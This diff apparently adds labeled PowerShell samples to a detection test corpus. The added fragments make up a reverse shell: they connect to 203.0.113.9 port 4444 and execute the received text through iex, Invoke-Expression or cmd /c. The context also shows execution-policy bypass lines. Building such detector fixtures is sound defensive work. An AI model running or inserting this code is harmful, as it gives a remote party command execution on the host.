@@ -75,6 +75,27 @@ powershell -ep bypass -File $env:TEMP\a.ps1
 Invoke-Command -ScriptBlock ([scriptblock]::Create($c))
 %% run: shell
 powershell -NoProfile -Command $c
+%% link: client
+$c = New-Object System.Net.Sockets.TCPClient("203.0.113.9", 4444)
+$s = $c.GetStream()
+%% link: new without a command
+$c = [System.Net.Sockets.TcpClient]::new("203.0.113.9", 4444)
+$s = $c.GetStream()
+%% obey: bytes evaluated
+[byte[]]$b = 0..65535 | % {0}
+while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
+  $d = [Text.Encoding]::ASCII.GetString($b, 0, $i)
+  $o = iex $d 2>&1 | Out-String
+  $r = [Text.Encoding]::ASCII.GetBytes($o)
+  $s.Write($r, 0, $r.Length)
+}
+%% obey: lines evaluated
+$r = New-Object IO.StreamReader($s)
+$w = New-Object IO.StreamWriter($s)
+while ($l = $r.ReadLine()) { $w.WriteLine((Invoke-Expression $l | Out-String)); $w.Flush() }
+%% obey: lines as commands
+$r = New-Object IO.StreamReader($s)
+while ($l = $r.ReadLine()) { $o = cmd /c $l; $s.Write([Text.Encoding]::ASCII.GetBytes($o), 0, 10) }
 %% ordinary
 $d = "3 of 4 are done"
 %% shown
